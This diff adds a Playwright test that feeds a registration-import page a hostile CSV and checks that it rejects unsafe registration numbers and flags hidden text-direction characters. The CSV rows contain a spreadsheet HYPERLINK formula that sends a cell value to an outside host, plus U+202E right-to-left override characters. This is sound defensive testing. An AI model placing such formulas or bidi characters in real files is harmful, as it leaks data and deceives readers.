@@ -53,3 +53,37 @@ test('a coordinator imports a GBK registration CSV, fixes the mapping, reads the
   await expect(page.getByTestId('import-report').getByTestId('report-unchanged')).toHaveText('6');
   await expect(page.getByTestId('rejected-rows')).toContainText('Application type “讲座” is not a known entry type');
 });
+
+test('a hostile registration file: unsafe registration numbers refused by row, hidden text-direction characters flagged and shown', async ({ page }, info) => {
+  app = await serveApp();
+  await page.goto(app.url);
+  await page.getByTestId('template-sichuan-influence-2023').getByRole('button', { name: '创建活动' }).click();
+  await page.getByRole('tab', { name: '导入报名' }).click();
+  const csv = [
+    '报名编号,申报类型,作品类别,作品名称,作者,联系电话,推荐理由,提交时间',
+    'SC-0001,作品,视频,七步\u202E法手洗,李晓雯,13800138000,原创,2023-12-10 09:30',
+    '"=HYPERLINK(""http://x.cn/?""&B2,""点我"")",作品,视频,公式编号,李晓雯,13800138000,原创,2023-12-10 09:30',
+    'SC-0003\u202E1000,作品,视频,反转编号,李晓雯,13800138000,原创,2023-12-10 09:30',
+  ].join('\r\n');
+  await page.getByTestId('import-file').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(`\ufeff${csv}\r\n`) });
+
+  await expect(page.getByTestId('import-summary')).toHaveText('文件共 3 行;其中 2 行将被拒收。');
+  const preview = page.getByTestId('import-preview');
+  const flagged = preview.locator('tr', { hasText: 'SC-0001' });
+  await expect(flagged).toContainText('作品名称含有不可见的文字方向控制字符');
+  await expect(flagged.locator('td.cell-warning')).toHaveText('七步[U+202E]法手洗');
+  await expect(preview.locator('tr', { hasText: '公式编号' })).toContainText('只能包含字母(含汉字)、数字和 - _ / .');
+  await expect(preview.locator('tr', { hasText: '反转编号' })).toContainText('SC-0003[U+202E]1000');
+  await page.screenshot({ path: info.outputPath('import-hostile-preview-zh.png'), fullPage: true });
+
+  await page.getByTestId('language-switch').selectOption('en');
+  await page.getByTestId('import-run').click();
+  const report = page.getByTestId('import-report');
+  await expect(report.getByTestId('report-added')).toHaveText('1');
+  await expect(report.getByTestId('report-rejected')).toHaveText('2');
+  await expect(report.getByTestId('report-flagged')).toHaveText('1');
+  await expect(page.getByTestId('rejected-rows')).toContainText('may contain only letters, digits and - _ / .');
+  await expect(page.getByTestId('flagged-rows')).toContainText('Title contains invisible text-direction characters');
+  await expect(page.getByTestId('flagged-rows')).toContainText('七步[U+202E]法手洗');
+  await page.screenshot({ path: info.outputPath('import-hostile-report-en.png'), fullPage: true });
+});
